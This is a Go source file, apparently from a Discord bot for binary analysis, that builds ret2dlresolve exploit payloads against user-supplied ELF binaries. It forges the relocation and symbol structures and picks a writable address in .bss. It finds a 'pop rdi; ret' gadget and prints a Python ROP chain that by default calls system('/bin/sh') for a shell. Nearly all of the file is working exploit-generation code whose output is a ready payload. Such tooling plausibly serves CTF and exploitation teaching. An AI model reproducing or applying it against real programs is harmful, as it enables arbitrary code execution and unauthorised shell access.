@@ -0,0 +1,361 @@
+package main
+
+import (
+	"bytes"
+	"debug/elf"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"strings"
+)
+
+// A field of the fake structures in a ret2dlresolve payload, for the annotated layout
+type ret2dlField struct {
+	addr  uint64
+	data  []byte
+	label string
+}
+
+// A ret2dlresolve payload: the fake relocation, symbol and strings, and what to call _dl_runtime_resolve with
+type ret2dlPayload struct {
+	dataAddr uint64
+	fields   []ret2dlField
+
+	// PLT0, which pushes the link_map and jumps to _dl_runtime_resolve, and the relocation argument pushed for it
+	plt0     uint64
+	relocArg uint64
+	argAddr  uint64
+	symIndex uint64
+
+	// The version index _dl_fixup reads for the fake symbol
+	versym uint64
+}
+
+// Reads memory of an ELF at a virtual address as the loader maps it, a page at a time: the rest of a read-only
+// segment's last page is the file's bytes after it, and past the end of a writable segment's file data is zeros.
+// ok is false if no segment maps the address.
+func (bin *binaryFile) readVirtual(addr uint64, size int) ([]byte, bool) {
+	for _, prog := range bin.elf.Progs {
+		pageStart, pageEnd := prog.Vaddr &^ 0xfff, (prog.Vaddr + prog.Memsz + 0xfff) &^ 0xfff
+
+		if prog.Type != elf.PT_LOAD || addr < pageStart || addr + uint64(size) > pageEnd {
+			continue
+		}
+
+		fileEnd := prog.Vaddr + prog.Filesz
+		if prog.Flags & elf.PF_W == 0 {
+			fileEnd = pageEnd
+		}
+
+		out := make([]byte, size)
+
+		for n := range out {
+			at := addr + uint64(n)
+			offset := prog.Off + at - prog.Vaddr
+
+			if at < fileEnd && offset < uint64(len(bin.Data)) {
+				out[n] = bin.Data[offset]
+			}
+		}
+
+		return out, true
+	}
+
+	return nil, false
+}
+
+// Picks where to put the fake structures: after the end of .bss if they fit in what's left of its last page, since
+// the page after it isn't mapped, or at its start if not
+func (bin *binaryFile) ret2dlDataAddr(size uint64) (uint64, bool) {
+	section := bin.elf.Section(".bss")
+
+	if section == nil {
+		return 0, false
+	}
+
+	end := (section.Addr + section.Size + 0xf) &^ 0xf
+	pageEnd := (section.Addr + section.Size + 0xfff) &^ 0xfff
+
+	if end + size <= pageEnd {
+		return end, true
+	}
+
+	return (section.Addr + 0xf) &^ 0xf, true
+}
+
+// Builds the fake Elf_Rel(a), Elf_Sym and strings that make _dl_runtime_resolve look up function, and lay them
+// out from dataAddr. The symbol is placed where its version index reads as 0 or 1, which have no version to check.
+func (bin *binaryFile) ret2dlresolve(function string, argument string, dataAddr uint64) (ret2dlPayload, error) {
+	f := bin.elf
+	is64 := f.Class == elf.ELFCLASS64
+
+	if f.Machine != elf.EM_X86_64 && f.Machine != elf.EM_386 {
+		return ret2dlPayload{}, errors.New("ret2dlresolve is only worked out for x86 and x64 ELFs")
+	}
+
+	entries, _, err := bin.dynamicEntries()
+
+	if err != nil {
+		return ret2dlPayload{}, err
+	}
+
+	tags := map[elf.DynTag]uint64{}
+	for _, entry := range entries {
+		tags[entry.Tag] = entry.Value
+	}
+
+	if bindNow, _ := bin.dynamicTags(); elfBindNow(bindNow) {
+		return ret2dlPayload{}, errors.New("the ELF binds its symbols at load time (BIND_NOW, full RELRO), so there's no lazy resolution to hijack")
+	}
+
+	jmprel, okRel := tags[elf.DT_JMPREL]
+	symtab, okSym := tags[elf.DT_SYMTAB]
+	strtab, okStr := tags[elf.DT_STRTAB]
+	plt := f.Section(".plt")
+
+	if !okRel || !okSym || !okStr || plt == nil {
+		return ret2dlPayload{}, errors.New("the ELF has no PLT relocations to resolve lazily")
+	}
+
+	word, relEnt, symEnt := uint64(4), uint64(8), uint64(16)
+	if is64 {
+		word, relEnt, symEnt = 8, 24, 24
+	}
+
+	put := func(value uint64, size int) []byte {
+		out := make([]byte, 8)
+		binary.LittleEndian.PutUint64(out, value)
+
+		return out[:size]
+	}
+
+	p := ret2dlPayload{dataAddr: dataAddr, plt0: plt.Addr}
+
+	// The resolved address is written to the relocation's r_offset, the first word of the data is somewhere for it
+	gotSlot := dataAddr
+	rel := dataAddr + word
+
+	// x64 passes _dl_runtime_resolve the relocation's index, so it has to be a whole number of entries past JMPREL
+	if is64 {
+		rel += (relEnt - (rel - jmprel) % relEnt) % relEnt
+		p.relocArg = (rel - jmprel) / relEnt
+	} else {
+		p.relocArg = rel - jmprel
+	}
+
+	// The symbol is found by its index in the symbol table, so it has to be a whole number of entries past it
+	sym := rel + relEnt
+	sym += (symEnt - (sym - symtab) % symEnt) % symEnt
+	versym, hasVersym := tags[elf.DT_VERSYM]
+
+	for tries := 0; ; tries++ {
+		p.symIndex = (sym - symtab) / symEnt
+
+		if !hasVersym {
+			break
+		}
+
+		index, ok := bin.readVirtual(versym + 2 * p.symIndex, 2)
+
+		// A version index inside the payload would be whatever the payload has there, so that spot's no good either
+		end := sym + symEnt + uint64(len(function) + len(argument) + 2)
+		inPayload := versym + 2 * p.symIndex >= dataAddr && versym + 2 * p.symIndex < end
+
+		if ok && !inPayload && binary.LittleEndian.Uint16(index) & 0x7fff <= 1 {
+			p.versym = versym + 2 * p.symIndex
+			break
+		}
+
+		if tries == 256 {
+			return ret2dlPayload{}, errors.New("couldn't find a spot for the fake symbol whose version index is readable and 0 or 1, try another data address")
+		}
+
+		sym += symEnt
+	}
+
+	name := sym + symEnt
+	arg := name + uint64(len(function)) + 1
+	p.argAddr = arg
+
+	p.fields = append(p.fields, ret2dlField{gotSlot, put(0, int(word)), "where the resolved address of " + function + " is written (the fake r_offset)"})
+
+	if rel > gotSlot + word {
+		p.fields = append(p.fields, ret2dlField{gotSlot + word, make([]byte, rel - gotSlot - word), "padding, to a whole relocation entry past JMPREL"})
+	}
+
+	relocType := map[bool]string{true: "R_X86_64_JUMP_SLOT", false: "R_386_JMP_SLOT"}[is64]
+
+	if is64 {
+		p.fields = append(p.fields,
+			ret2dlField{rel, put(gotSlot, 8), "Elf64_Rela.r_offset"},
+			ret2dlField{rel + 8, put(p.symIndex << 32 | 7, 8), fmt.Sprintf("Elf64_Rela.r_info, symbol %d, %s (7)", p.symIndex, relocType)},
+			ret2dlField{rel + 16, put(0, 8), "Elf64_Rela.r_addend"})
+	} else {
+		p.fields = append(p.fields,
+			ret2dlField{rel, put(gotSlot, 4), "Elf32_Rel.r_offset"},
+			ret2dlField{rel + 4, put(p.symIndex << 8 | 7, 4), fmt.Sprintf("Elf32_Rel.r_info, symbol %d, %s (7)", p.symIndex, relocType)})
+	}
+
+	if sym > rel + relEnt {
+		p.fields = append(p.fields, ret2dlField{rel + relEnt, make([]byte, sym - rel - relEnt), "padding, to a whole symbol entry past DT_SYMTAB"})
+	}
+
+	// st_info 0x12 is a global function, st_other 0 default visibility and st_shndx 0 undefined, so it's looked up
+	if is64 {
+		p.fields = append(p.fields,
+			ret2dlField{sym, put(name - strtab, 4), "Elf64_Sym.st_name, the offset of \"" + function + "\" from DT_STRTAB"},
+			ret2dlField{sym + 4, []byte{0x12, 0, 0, 0}, "Elf64_Sym.st_info (STB_GLOBAL, STT_FUNC), st_other, st_shndx"},
+			ret2dlField{sym + 8, make([]byte, 16), "Elf64_Sym.st_value, st_size"})
+	} else {
+		p.fields = append(p.fields,
+			ret2dlField{sym, put(name - strtab, 4), "Elf32_Sym.st_name, the offset of \"" + function + "\" from DT_STRTAB"},
+			ret2dlField{sym + 4, make([]byte, 8), "Elf32_Sym.st_value, st_size"},
+			ret2dlField{sym + 12, []byte{0x12, 0, 0, 0}, "Elf32_Sym.st_info (STB_GLOBAL, STT_FUNC), st_other, st_shndx"})
+	}
+
+	p.fields = append(p.fields, ret2dlField{name, append([]byte(function), 0), "\"" + function + "\""})
+
+	if argument != "" {
+		p.fields = append(p.fields, ret2dlField{arg, append([]byte(argument), 0), "\"" + argument + "\", the argument"})
+	}
+
+	return p, nil
+}
+
+// The fake structures' bytes, in one piece from the data address
+func (p ret2dlPayload) data() []byte {
+	var out []byte
+
+	for _, field := range p.fields {
+		out = append(out, field.data...)
+	}
+
+	return out
+}
+
+// Builds the structures and chain for ret2dlresolve against the user's binary, calling a function by name
+func cmdRet2dlresolve(params cmdArguments) {
+	s := params.s
+	m := params.m
+	args := params.args
+
+	bin, err := sessionBinary(m)
+
+	if err != nil {
+		_, _ = s.ChannelMessageSend(m.ChannelID, "Sorry, " + err.Error() + ".")
+		return
+	}
+
+	if bin.elf == nil {
+		_, _ = s.ChannelMessageSend(m.ChannelID, "Sorry, ret2dlresolve needs an ELF, and " + bin.Name + " is a " + bin.Format + ".")
+		return
+	}
+
+	function, argument := "system", "/bin/sh"
+	dataAddr, chosen := uint64(0), false
+	var rest []string
+
+	for _, arg := range args[1:] {
+		if strings.HasPrefix(arg, "at=") {
+			dataAddr, chosen = parseHexAddress(strings.TrimPrefix(arg, "at="))
+
+			if !chosen {
+				_, _ = s.ChannelMessageSend(m.ChannelID, "Sorry, '" + arg + "' isn't a hex address to put the payload at.")
+				return
+			}
+
+			continue
+		}
+
+		rest = append(rest, arg)
+	}
+
+	if len(rest) > 0 {
+		function, argument = rest[0], strings.Join(rest[1:], " ")
+	}
+
+	if !chosen {
+		var ok bool
+		dataAddr, ok = bin.ret2dlDataAddr(0x80 + uint64(len(function) + len(argument)))
+
+		if !ok {
+			_, _ = s.ChannelMessageSend(m.ChannelID, "Sorry, " + bin.Name + " has no .bss to put the payload in, give an address to put it at with at=<address>.")
+			return
+		}
+	}
+
+	p, err := bin.ret2dlresolve(function, argument, dataAddr)
+
+	if err != nil {
+		_, _ = s.ChannelMessageSend(m.ChannelID, "Sorry, " + err.Error() + ".")
+		return
+	}
+
+	is64 := bin.elf.Class == elf.ELFCLASS64
+	var out strings.Builder
+	data := p.data()
+
+	out.WriteString(fmt.Sprintf("# Write these %d bytes to 0x%x first, i.e. with a read() into it:\n", len(data), p.dataAddr))
+
+	for _, field := range p.fields {
+		hexBytes := strings.TrimSpace(formatOpcodes(field.data))
+		if len(field.data) > 16 {
+			hexBytes = strings.TrimSpace(formatOpcodes(field.data[:16])) + " ..."
+		}
+
+		out.WriteString(fmt.Sprintf("# 0x%08x  %-52s %s\n", field.addr, hexBytes, field.label))
+	}
+
+	out.WriteString(fmt.Sprintf("data = bytes.fromhex(\"%x\")\n\n", data))
+	out.WriteString("# Then return into PLT0 with the relocation argument on the stack, it resolves " + function + " and calls it:\n")
+
+	if is64 {
+		// The argument goes in rdi, which takes a pop rdi; ret gadget
+		gadget := "0x????????"
+		for _, section := range bin.Sections {
+			if code := bin.sectionData(section); section.Exec {
+				if pos := bytes.Index(code, []byte{0x5f, 0xc3}); pos >= 0 {
+					gadget = fmt.Sprintf("0x%x", section.Addr + uint64(pos))
+					break
+				}
+			}
+		}
+
+		if argument != "" {
+			out.WriteString(fmt.Sprintf("chain  = p64(%s)  # pop rdi; ret\n", gadget))
+			out.WriteString(fmt.Sprintf("chain += p64(0x%x)  # rdi, \"%s\"\n", p.argAddr, argument))
+		} else {
+			out.WriteString("chain  = b\"\"\n")
+		}
+
+		out.WriteString(fmt.Sprintf("chain += p64(0x%x)  # PLT0\n", p.plt0))
+		out.WriteString(fmt.Sprintf("chain += p64(%d)  # reloc_arg, the fake Elf64_Rela's index from JMPREL\n", p.relocArg))
+		out.WriteString("chain += p64(0xdeadbeef)  # where " + function + " returns to\n")
+	} else {
+		out.WriteString(fmt.Sprintf("chain  = p32(0x%x)  # PLT0\n", p.plt0))
+		out.WriteString(fmt.Sprintf("chain += p32(0x%x)  # reloc_arg, the fake Elf32_Rel's offset from JMPREL\n", p.relocArg))
+		out.WriteString("chain += p32(0xdeadbeef)  # where " + function + " returns to\n")
+
+		if argument != "" {
+			out.WriteString(fmt.Sprintf("chain += p32(0x%x)  # the argument, \"%s\"\n", p.argAddr, argument))
+		}
+	}
+
+	var notes []string
+
+	if p.versym != 0 {
+		notes = append(notes, fmt.Sprintf("The fake symbol is number %d, so _dl_fixup reads its version index from 0x%x, which is 0 or 1 (no version check).", p.symIndex, p.versym))
+	}
+
+	if is64 {
+		notes = append(notes, "If " + function + " crashes on a movaps, the stack is 8 bytes off 16: add a ret gadget before PLT0.")
+	}
+
+	if bin.elf.Type == elf.ET_DYN {
+		notes = append(notes, "The binary is PIE, so every address here is an offset to add its base to.")
+	}
+
+	out.WriteString("\n# " + strings.Join(notes, "\n# ") + "\n")
+
+	sendListing(s, m.ChannelID, "ret2dlresolve for " + function + " in " + bin.Name + ":", bin.Name + ".ret2dl.py", out.String())
+}